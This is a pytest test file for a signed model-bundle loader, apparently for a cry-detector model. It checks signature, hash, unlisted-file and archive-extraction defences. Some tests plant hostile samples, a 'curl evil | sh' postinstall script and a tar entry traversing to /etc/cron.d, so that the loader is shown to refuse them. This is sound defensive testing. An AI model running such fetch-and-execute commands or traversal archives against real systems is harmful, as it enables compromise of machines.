from __future__ import annotations

import io
import json
import tarfile
from pathlib import Path

import pytest

from models.bundle import (
    SIGNATURE_NAME,
    BadSignatureError,
    FileHashMismatchError,
    ManifestInvalidError,
    ManifestMissingError,
    MissingFileError,
    SignatureMissingError,
    UnexpectedFileError,
    UnknownKeyError,
    UnsafeArchiveError,
    load_bundle,
    pack_bundle,
    sign_bundle,
    write_bundle,
)
from models.frontend import FrontendConfig
from models.signing import TrustedKeys, generate_keypair, load_private_key
from tests.conftest import write_test_bundle


@pytest.fixture()
def keys(tmp_path: Path) -> tuple[Path, TrustedKeys]:
    private, public = generate_keypair(tmp_path / "keys", "release")
    return private, TrustedKeys.from_paths([public])


@pytest.fixture()
def signed(tmp_path: Path, keys: tuple[Path, TrustedKeys]) -> Path:
    bundle = write_test_bundle(tmp_path)
    sign_bundle(bundle, load_private_key(keys[0]))
    return bundle


def test_signed_bundle_loads_with_its_manifest(
    signed: Path, keys: tuple[Path, TrustedKeys]
) -> None:
    bundle = load_bundle(signed, keys[1])
    assert bundle.manifest.labels == ["cry", "other"]
    assert bundle.manifest.features == FrontendConfig()
    assert bundle.manifest.input_shape == [1, 1, 97, 64]
    assert bundle.path("onnx") == signed / "model.onnx"
    assert bundle.signed_by == keys[1].ids[0]
    with pytest.raises(MissingFileError, match="no reference file"):
        bundle.path("reference")


def test_tampered_file_is_refused(signed: Path, keys: tuple[Path, TrustedKeys]) -> None:
    (signed / "model.onnx").write_bytes(b"onnx model bytes, now with a backdoor")
    with pytest.raises(FileHashMismatchError, match=r"model.onnx: sha256 \w+ differs"):
        load_bundle(signed, keys[1])


def test_missing_file_is_refused(signed: Path, keys: tuple[Path, TrustedKeys]) -> None:
    (signed / "model.tflite").unlink()
    with pytest.raises(MissingFileError, match="model.tflite is listed in the manifest but"):
        load_bundle(signed, keys[1])


def test_rewritten_hash_in_the_manifest_breaks_the_signature(
    signed: Path, keys: tuple[Path, TrustedKeys]
) -> None:
    # An attacker swaps the model and updates its hash: the manifest no longer matches.
    (signed / "model.onnx").write_bytes(b"evil")
    manifest = json.loads((signed / "manifest.json").read_text())
    import hashlib

    manifest["files"]["model.onnx"]["sha256"] = hashlib.sha256(b"evil").hexdigest()
    manifest["files"]["model.onnx"]["size"] = 4
    (signed / "manifest.json").write_text(json.dumps(manifest, indent=2, sort_keys=True) + "\n")
    with pytest.raises(BadSignatureError, match="altered after signing"):
        load_bundle(signed, keys[1])


def test_unknown_key_is_refused(signed: Path, tmp_path: Path) -> None:
    _, other_public = generate_keypair(tmp_path / "other", "someone-else")
    with pytest.raises(UnknownKeyError, match="not trusted here"):
        load_bundle(signed, TrustedKeys.from_paths([other_public]))


def test_missing_signature_is_refused(signed: Path, keys: tuple[Path, TrustedKeys]) -> None:
    (signed / SIGNATURE_NAME).unlink()
    with pytest.raises(SignatureMissingError, match="unsigned bundle"):
        load_bundle(signed, keys[1])


def test_garbled_signature_file_is_refused(signed: Path, keys: tuple[Path, TrustedKeys]) -> None:
    (signed / SIGNATURE_NAME).write_text("{not json")
    with pytest.raises(BadSignatureError, match="malformed signature file"):
        load_bundle(signed, keys[1])


def test_unlisted_file_is_refused(signed: Path, keys: tuple[Path, TrustedKeys]) -> None:
    (signed / "postinstall.sh").write_text("curl evil | sh")
    with pytest.raises(UnexpectedFileError, match="postinstall.sh"):
        load_bundle(signed, keys[1])


def test_folder_without_manifest_is_not_a_bundle(
    tmp_path: Path, keys: tuple[Path, TrustedKeys]
) -> None:
    (tmp_path / "empty").mkdir()
    with pytest.raises(ManifestMissingError, match="not a bundle"):
        load_bundle(tmp_path / "empty", keys[1])


def test_signer_refuses_a_bundle_whose_files_changed(
    tmp_path: Path, keys: tuple[Path, TrustedKeys]
) -> None:
    bundle = write_test_bundle(tmp_path)
    (bundle / "model.onnx").write_bytes(b"changed before signing")
    with pytest.raises(FileHashMismatchError):
        sign_bundle(bundle, load_private_key(keys[0]))
    assert not (bundle / SIGNATURE_NAME).exists()


def test_manifest_thresholds_must_name_labels(tmp_path: Path) -> None:
    source = tmp_path / "m.onnx"
    source.write_bytes(b"x")
    with pytest.raises(ManifestInvalidError, match="thresholds for unknown labels"):
        write_bundle(
            tmp_path / "b",
            name="cry-detector",
            version="1",
            task="classification",
            labels=["cry", "other"],
            thresholds={"glass": 0.5},
            features=FrontendConfig(),
            files={"model.onnx": ("onnx", source)},
        )
    assert not (tmp_path / "b").exists()


def test_archive_round_trip_is_reproducible(
    signed: Path, tmp_path: Path, keys: tuple[Path, TrustedKeys]
) -> None:
    first, second = tmp_path / "a.tar.gz", tmp_path / "b.tar.gz"
    pack_bundle(signed, first)
    pack_bundle(signed, second)
    assert first.read_bytes() == second.read_bytes()
    bundle = load_bundle(first, keys[1], extract_to=tmp_path / "unpacked")
    assert bundle.manifest.name == "cry-detector"
    assert bundle.root == tmp_path / "unpacked"


def test_archive_escaping_its_folder_is_refused(
    tmp_path: Path, keys: tuple[Path, TrustedKeys]
) -> None:
    archive = tmp_path / "evil.tar.gz"
    with tarfile.open(archive, "w:gz") as tar:
        info = tarfile.TarInfo("../../etc/cron.d/evil")
        payload = b"* * * * * root true\n"
        info.size = len(payload)
        tar.addfile(info, io.BytesIO(payload))
    with pytest.raises(UnsafeArchiveError, match="not a plain top-level file"):
        load_bundle(archive, keys[1], extract_to=tmp_path / "x")
    assert not (tmp_path / "etc").exists()


def test_corrupt_archive_is_refused(tmp_path: Path, keys: tuple[Path, TrustedKeys]) -> None:
    archive = tmp_path / "broken.tar.gz"
    archive.write_bytes(b"\x1f\x8b\x08 truncated")
    with pytest.raises(UnsafeArchiveError, match="not a readable"):
        load_bundle(archive, keys[1], extract_to=tmp_path / "x")
